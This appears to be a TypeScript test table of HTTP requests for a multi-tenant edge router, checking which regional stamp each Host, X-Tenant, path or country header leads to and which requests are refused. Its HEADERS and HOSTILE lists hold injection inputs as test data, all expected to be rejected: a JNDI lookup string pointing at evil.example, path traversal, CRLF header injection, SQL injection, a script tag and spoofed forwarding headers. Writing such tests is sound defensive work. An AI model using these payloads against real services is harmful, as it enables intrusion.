import type { Reason } from "../../../router/decision/types";
import { type ConfigName, LONGEST } from "../fleet";
import { AT_CASES } from "./at-cases";
import { TOKEN_CASES } from "./token-cases";

/** A request of the case table. */
export interface Case {
  /** Completes "answers …". */
  readonly name: string;
  readonly config: ConfigName;
  /** Headers as they go over the wire. */
  readonly headers: readonly (readonly [string, string])[];
  readonly path?: string;
  /** A stamp's id, or why the request is refused and after how many seconds to come again. */
  readonly expect: { readonly stamp: string } | { readonly reason: Reason; readonly retryAfter?: number };
}

const to = (stamp: string): Case["expect"] => ({ stamp });
const not = (reason: Reason, retryAfter?: number): Case["expect"] =>
  retryAfter === undefined ? { reason } : { reason, retryAfter };

function hosts(config: ConfigName, list: readonly (readonly [string, Case["expect"]])[]): Case[] {
  return list.map(([host, expect]) => ({ name: `host ${host}`, config, headers: [["Host", host]], expect }));
}

function tenants(config: ConfigName, list: readonly (readonly [string, Case["expect"]])[]): Case[] {
  return list.map(([value, expect]) => ({
    name: `X-Tenant ${value.length > 70 ? `of ${value.length} bytes` : value}`,
    config,
    headers: [
      ["Host", "edge.example.net"],
      ["X-Tenant", value],
    ],
    expect,
  }));
}

const PLACES = hosts("subdomain", [
  ["acme.example.test", to("eu2")],
  ["beta.example.test", to("eu1")],
  ["gamma.example.test", to("eu2")],
  ["delta.example.test", to("eu1")],
  ["epsilon.example.test", to("eu2")],
  ["zeta.example.test", to("eu1")],
  ["eta.example.test", to("eu1")],
  ["theta.example.test", to("eu1")],
  ["iota.example.test", to("eu1")],
  ["kappa.example.test", to("eu2")],
  ["lambda.example.test", to("eu2")],
  ["mu.example.test", to("eu1")],
  ["umbrella.example.test", to("us1")],
  ["initech.example.test", to("us1")],
  ["hooli.example.test", to("pr1")],
  ["bigbank.example.test", to("dd1")],
  ["abroad.example.test", to("us1")],
  ["pinned-eu1.example.test", to("eu1")],
  ["pinned-eu2.example.test", to("eu2")],
  ["constructor.example.test", to("us1")],
]);

const STATES = hosts("subdomain", [
  ["closed-corp.example.test", not("maintenance", 120)],
  ["move-now.example.test", not("moving", 7)],
  ["move-long.example.test", not("moving", 90)],
  ["paused.example.test", not("suspended")],
  ["paused-move.example.test", not("suspended")],
  ["paused-pinned.example.test", not("suspended")],
  ["move-copying.example.test", to("us1")],
  ["move-dualwrite.example.test", to("us1")],
  ["move-verifying.example.test", to("us1")],
  ["move-soaking.example.test", to("us1")],
]);

/** Paths and hosts of functions, and the stamp they lead to. */
const WORK: readonly Case[] = [
  ...(
    [
      ["busy", "/", to("eu1")],
      ["busy", "/api/batch", to("ap1")],
      ["busy", "/api/batch/", to("ap1")],
      ["busy", "/api/batch/x/y", to("ap1")],
      ["busy", "/api/batch?x=/api", to("ap1")],
      ["busy", "/api", to("cn1")],
      ["busy", "/api/", to("cn1")],
      ["busy", "/api/batches", to("cn1")],
      ["busy", "/api/BATCH", to("cn1")],
      ["busy", "/api?/batch", to("cn1")],
      ["busy", "/api/../x", to("cn1")],
      ["busy", "/api//batch", to("cn1")],
      ["busy", "/apis", to("eu1")],
      ["busy", "/API", to("eu1")],
      ["busy", "/%61pi", to("eu1")],
      ["busy", "//api", to("eu1")],
      ["busy", "/./api", to("eu1")],
      ["busy", "/x/../api", to("eu1")],
      ["busy", "/api%2fbatch", to("eu1")],
      ["busy", "/api;x", to("eu1")],
      ["busy", "/x?/api/batch", to("eu1")],
      ["acme", "/api/batch", to("eu2")],
      ["busy-abroad", "/", to("us1")],
      ["busy-abroad", "/api", to("us1")],
      ["busy-abroad", "/api/batch", to("ap1")],
      ["busy-closed", "/", to("eu1")],
      ["busy-closed", "/api/batch", not("maintenance", 120)],
      ["busy-paused", "/api/batch", not("suspended")],
      ["busy-move", "/api/batch", not("moving", 7)],
      ["nobody", "/api/batch", not("unknown")],
      ["closed-corp", "/api/batch", not("maintenance", 120)],
    ] as const
  ).map(
    ([tenant, path, expect]): Case => ({
      ...{ name: `path ${path} of ${tenant}`, config: "functions", path, expect },
      headers: [["Host", `${tenant}.example.test`]],
    }),
  ),
  ...(
    [
      ["batch.example.org", "/", to("ap1")],
      ["BATCH.example.org.:443", "/", to("ap1")],
      ["x.y.batch.example.org", "/", to("ap1")],
      ["batch.example.org", "/api", to("cn1")],
      ["xbatch.example.org", "/", to("eu1")],
      ["batch-example.org", "/", to("eu1")],
      ["batch.example.org.evil.test", "/", to("eu1")],
      ["example.org", "/", to("eu1")],
    ] as const
  ).map(
    ([host, path, expect]): Case => ({
      ...{ name: `host ${host} and path ${path} of busy`, config: "functions", path, expect },
      headers: [
        ["Host", host],
        ["X-Tenant", "busy"],
      ],
    }),
  ),
];

/** Tenants' own domains. */
const OWN: readonly Case[] = [
  ...hosts("own", [
    ["owner.example.com", to("eu1")],
    ["OWNER.Example.COM", to("eu1")],
    ["owner.example.com.", to("eu1")],
    ["owner.example.com:443", to("eu1")],
    ["owner.example.com.:8443", to("eu1")],
    ["shop.owner.example.com", to("eu1")],
    ["abroad.example.com", to("us1")],
    ["xn--mnchen-3ya.example.com", to("us1")],
    ["paused.example.com", not("suspended")],
    ["other.owner.example.com", not("unnamed")],
    ["example.com", not("unnamed")],
    ["xowner.example.com", not("unnamed")],
    ["owner.example.com.evil.test", not("unnamed")],
    ["owner.example.com@x", not("malformed")],
    ["owner.example.com:x", not("malformed")],
    ["owner.example.com/", not("malformed")],
    ["acme.example.test", to("eu2")],
    ["www.example.test", not("unnamed")],
    ["nobody.example.test", not("unknown")],
  ]),
  ...hosts("ownFirst", [
    ["owner.example.com", to("eu1")],
    ["acme.example.test", to("eu2")],
    ["nobody.example.com", not("unnamed")],
    ["owner.example.com,acme.example.test", not("malformed")],
  ]),
  ...(
    [
      ["a domain before a header", "owner.example.com", "acme", "/", to("eu1")],
      ["the header where the domain is nobody's", "nobody.example.com", "acme", "/", to("eu2")],
      ["a subdomain before all", "acme.example.test", "umbrella", "/", to("eu2")],
      ["a function by a domain", "abroad.example.com", "acme", "/batch/x", to("ap1")],
    ] as const
  ).map(
    ([name, host, header, path, expect]): Case => ({
      ...{ name, config: "own", path, expect },
      headers: [
        ["Host", host],
        ["X-Tenant", header],
      ],
    }),
  ),
];

const UNKNOWN = hosts(
  "subdomain",
  [
    ...["nobody", "acm", "acmee", "acme1", "eu1", "us1", "toString", "hasownproperty", "valueof", "__proto"],
    ...["xn--80ak6aa92e", "d", "v", "0", "z9", "www1", "example", "test", "localhost", "admin"],
  ].map((name) => [`${name}.example.test`, not(name === "__proto" ? "malformed" : "unknown")] as const),
);

const SPELLING = hosts("subdomain", [
  ["ACME.example.test", to("eu2")],
  ["Acme.Example.TEST", to("eu2")],
  ["acme.example.test:80", to("eu2")],
  ["acme.example.test:8443", to("eu2")],
  ["acme.example.test:", to("eu2")],
  ["acme.example.test.", to("eu2")],
  ["acme.example.test.:443", to("eu2")],
  ["a.example.test", to("us1")],
  ["7.example.test", to("us1")],
  ["42.example.test", to("us1")],
  ["x-y.example.test", to("us1")],
  ["a--b.example.test", to("us1")],
  [`${LONGEST}.example.test`, to("us1")],
  [`${LONGEST}x.example.test`, not("malformed")],
  // The IDN münchen.example.test as browsers send it.
  ["xn--mnchen-3ya.example.test", to("us1")],
  ["XN--MNCHEN-3YA.example.test", to("us1")],
]);

const ODD_HOSTS = hosts("subdomain", [
  ["example.test", not("unnamed")],
  ["EXAMPLE.TEST:443", not("unnamed")],
  ["www.example.test", not("unnamed")],
  ["WWW.example.test", not("unnamed")],
  ["api.example.test", not("unnamed")],
  ["example.com", not("unnamed")],
  ["acme.example.com", not("unnamed")],
  ["acme.example.test.evil.example", not("unnamed")],
  ["acmeexample.test", not("unnamed")],
  ["localhost", not("unnamed")],
  ["localhost:8080", not("unnamed")],
  ["192.0.2.1", not("unnamed")],
  ["192.0.2.1:8080", not("unnamed")],
  ["[2001:db8::1]", not("unnamed")],
  ["[2001:db8::1]:8443", not("unnamed")],
  ["[::ffff:192.0.2.1]", not("unnamed")],
  ["a.b.example.test", not("malformed")],
  ["acme.www.example.test", not("malformed")],
  ["www.acme.example.test", not("malformed")],
  [".example.test", not("malformed")],
  ["..example.test", not("malformed")],
  ["-acme.example.test", not("malformed")],
  ["acme-.example.test", not("malformed")],
  ["ac_me.example.test", not("malformed")],
  ["acme%00.example.test", not("malformed")],
  ["acme$.example.test", not("malformed")],
  ["*.example.test", not("malformed")],
  ["!7.example.test", not("malformed")],
  ["acme.example.test:80:80", not("malformed")],
  ["acme.example.test:http", not("malformed")],
  ["acme.example.test:123456", not("malformed")],
  ["acme.example.test/evil", not("malformed")],
  ["evil@acme.example.test", not("malformed")],
  ["acme.example.test,beta.example.test", not("malformed")],
  ["münchen.example.test", not("malformed")],
]);

const HEADERS = tenants("header", [
  ["acme", to("eu2")],
  ["ACME", to("eu2")],
  ["Umbrella", to("us1")],
  ["hooli", to("pr1")],
  ["bigbank", to("dd1")],
  ["xn--mnchen-3ya", to("us1")],
  [LONGEST, to("us1")],
  ["closed-corp", not("maintenance", 120)],
  ["move-now", not("moving", 7)],
  ["nobody", not("unknown")],
  ["www", not("unknown")],
  ["", not("unnamed")],
  ["   ", not("unnamed")],
  ["  acme  ", to("eu2")],
  ["acme,beta", not("malformed")],
  ["acme beta", not("malformed")],
  ["acme;beta", not("malformed")],
  ["../../etc/passwd", not("malformed")],
  ["acme.example.test", not("malformed")],
  ["acme%0d%0aX-Stamp-Id: eu1", not("malformed")],
  ["$" + "{jndi:ldap://evil.example/a}", not("malformed")],
  ["' or 1=1 --", not("malformed")],
  ["<script>", not("malformed")],
  ["!7", not("malformed")],
  ["@1 acme", not("malformed")],
  ["-acme", not("malformed")],
  ["acme-", not("malformed")],
  ["ac_me", not("malformed")],
  ["münchen", not("malformed")],
  ["аcme", not("malformed")],
  ["a".repeat(64), not("malformed")],
  ["a".repeat(8000), not("malformed")],
]);

/** Headers and what comes of them under one configuration. */
type Row = readonly [name: string, headers: readonly (readonly [string, string])[], expect: Case["expect"]];

function rows(config: ConfigName, list: readonly Row[]): Case[] {
  return list.map(([name, headers, expect]) => ({ name: `${name} (${config})`, config, headers, expect }));
}

const ACME = ["Host", "acme.example.test"] as const;
const NEUTRAL = ["Host", "edge.example.net"] as const;
const tenantHeader = (value: string): readonly [string, string] => ["X-Tenant", value];

const PRECEDENCE = [
  ...rows("chain", [
    ["the host before the header", [ACME, tenantHeader("umbrella")], to("eu2")],
    [
      "an unknown host before a known header",
      [["Host", "nobody.example.test"], tenantHeader("umbrella")],
      not("unknown"),
    ],
    [
      "a malformed host before a known header",
      [["Host", "a.b.example.test"], tenantHeader("umbrella")],
      not("malformed"),
    ],
    ["the header when the host names none", [NEUTRAL, tenantHeader("umbrella")], to("us1")],
    [
      "the header when the label is reserved",
      [["Host", "www.example.test"], tenantHeader("umbrella")],
      to("us1"),
    ],
    ["the header when the host is the apex", [["Host", "example.test"], tenantHeader("umbrella")], to("us1")],
    ["the header when the host is an address", [["Host", "[::1]:80"], tenantHeader("umbrella")], to("us1")],
    ["nobody when no source speaks", [NEUTRAL], not("unnamed")],
    ["a malformed header behind a host that decides", [ACME, tenantHeader("../")], to("eu2")],
    ["a malformed header when it decides", [NEUTRAL, tenantHeader("../")], not("malformed")],
  ]),
  ...rows("headerFirst", [
    ["the header before the host", [ACME, tenantHeader("umbrella")], to("us1")],
    ["an unknown header before a known host", [ACME, tenantHeader("nobody")], not("unknown")],
    ["a malformed header before a known host", [ACME, tenantHeader("a b")], not("malformed")],
    ["the host when the header is empty", [ACME, tenantHeader("")], to("eu2")],
    ["the host when there is no header", [ACME], to("eu2")],
    [
      "a malformed host behind a header that decides",
      [["Host", "a.b.example.test"], tenantHeader("umbrella")],
      to("us1"),
    ],
  ]),
  ...rows("domains", [
    ["the first domain", [ACME], to("eu2")],
    ["the second domain", [["Host", "umbrella.example.org"]], to("us1")],
    ["a label reserved elsewhere", [["Host", "www.example.org"]], not("unnamed")],
    ["a label that nothing reserves", [["Host", "www.example.test"]], not("unknown")],
    ["a third domain", [["Host", "acme.example.net"]], not("unnamed")],
    ["two labels under the second domain", [["Host", "a.b.example.org"]], not("malformed")],
  ]),
];

const HOSTILE = rows("chain", [
  ["one X-Tenant twice", [NEUTRAL, tenantHeader("acme"), tenantHeader("umbrella")], not("malformed")],
  [
    "a client that says it is routed already",
    [ACME, ["X-Stamp-Id", "us1"], ["X-Stamp-Tenant", "umbrella"]],
    to("eu2"),
  ],
  ["X-Forwarded-Host", [ACME, ["X-Forwarded-Host", "umbrella.example.test"]], to("eu2")],
  ["Forwarded", [ACME, ["Forwarded", "host=umbrella.example.test"]], to("eu2")],
  ["X-Original-Host", [ACME, ["X-Original-Host", "umbrella.example.test"]], to("eu2")],
  ["a header like ours", [NEUTRAL, ["X-Tenant-Id", "acme"]], not("unnamed")],
  ["a header of 8 KB beside", [ACME, ["X-Large", "x".repeat(8192)]], to("eu2")],
  [
    "a hundred headers beside",
    [ACME, ...Array.from({ length: 80 }, (_, i) => [`X-H${i}`, "x"] as const)],
    to("eu2"),
  ],
  ["headers of 64 KB", [ACME, ["X-Large", "x".repeat(65_536)]], not("malformed")],
  ["a tenant of 64 KB", [NEUTRAL, tenantHeader("x".repeat(65_536))], not("malformed")],
  [
    "64 KB in many headers",
    [ACME, ...Array.from({ length: 64 }, (_, i) => [`X-H${i}`, "x".repeat(1024)] as const)],
    not("malformed"),
  ],
]);

const PATHS: Case[] = [
  "/",
  "/umbrella",
  "//umbrella.example.test/",
  "/?tenant=umbrella",
  "/%2e%2e/",
  "/a?x-tenant=1",
].map((path) => ({ name: `path ${path}`, config: "subdomain", headers: [ACME], path, expect: to("eu2") }));

const WWW = ["Host", "www.example.test"] as const;
const from = (...countries: string[]): Case["headers"] =>
  countries.map((country) => ["CloudFront-Viewer-Country", country] as const);

/** Visitors that name no tenant, and those that do, by the country that the edge says. */
const STRANGERS: Case[] = (
  [
    ["from Germany", [WWW, ...from("DE")], to("eu1")],
    ["from the United States", [WWW, ...from("US")], to("us1")],
    ["from Brazil", [WWW, ...from("BR")], to("us1")],
    ["from Canada", [WWW, ...from("CA")], to("us1")],
    ["from Australia", [WWW, ...from("AU")], to("ap1")],
    ["from Japan, where the nearest stamp is closed", [WWW, ...from("JP")], to("ap1")],
    ["from Kiribati, across the line of dates", [WWW, ...from("KI")], to("ap1")],
    ["from a longer word", [WWW, ...from("DEU")], to("eu1")],
    ["from two countries", [WWW, ...from("DE", "US")], to("eu1")],
    ["from nowhere", [WWW], not("unnamed")],
    ["from an unknown country", [WWW, ...from("ZZ")], not("unnamed")],
    ["from a country in small letters", [WWW, ...from("de")], not("unnamed")],
    ["from a country of one letter", [WWW, ...from("D")], not("unnamed")],
    ["from a country without a name", [WWW, ...from("")], not("unnamed")],
    ["from a country that is a path", [WWW, ...from("../")], not("unnamed")],
    ["a tenant from Germany", [["Host", "umbrella.example.test"], ...from("DE")], to("us1")],
    [
      "a tenant that is not there, from Germany",
      [["Host", "nobody.example.test"], ...from("DE")],
      not("unknown"),
    ],
    ["a malformed name from Germany", [["Host", "a.b.example.test"], ...from("DE")], not("malformed")],
  ] as const
).map(([name, headers, expect]) => ({ name: `a visitor ${name}`, config: "nearest", headers, expect }));

/** A canary is for new tenants: those that are there stay where they are, whatever its share. */
const OF_A_CANARY: Case[] = Array.from({ length: 40 }, (_, index) => ({
  name: `client ${index} of a pool with a canary`,
  config: "subdomain",
  headers: [["Host", `api-client-${index}.example.test`]],
  expect: to("ap1"),
}));

/** The one table that the pure function, the edge bundle and HAProxy must agree on. */
export const CASES: readonly Case[] = [
  ...PLACES,
  ...STATES,
  ...WORK,
  ...OWN,
  ...UNKNOWN,
  ...SPELLING,
  ...ODD_HOSTS,
  ...HEADERS,
  ...PRECEDENCE,
  ...HOSTILE,
  ...PATHS,
  ...OF_A_CANARY,
  ...TOKEN_CASES,
  ...STRANGERS,
  ...AT_CASES,
];
